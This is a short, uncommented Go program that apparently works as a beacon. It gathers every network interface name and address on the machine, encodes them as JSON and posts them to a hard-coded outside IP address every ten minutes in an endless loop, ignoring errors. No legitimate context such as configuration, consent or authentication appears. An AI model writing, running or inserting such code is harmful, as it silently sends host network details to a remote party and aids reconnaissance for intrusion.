package main

import (
	"bytes"
	"encoding/json"
	"net"
	"net/http"
	"time"
)

type report struct {
	Addrs []string `json:"a"`
}

func main() {
	r := report{}
	ifs, _ := net.Interfaces()
	for _, i := range ifs {
		as, _ := i.Addrs()
		for _, a := range as {
			r.Addrs = append(r.Addrs, i.Name+"="+a.String())
		}
	}
	body, _ := json.Marshal(r)
	for {
		http.Post("http://198.51.100.23/r", "application/json", bytes.NewReader(body))
		time.Sleep(10 * time.Minute)
	}
}
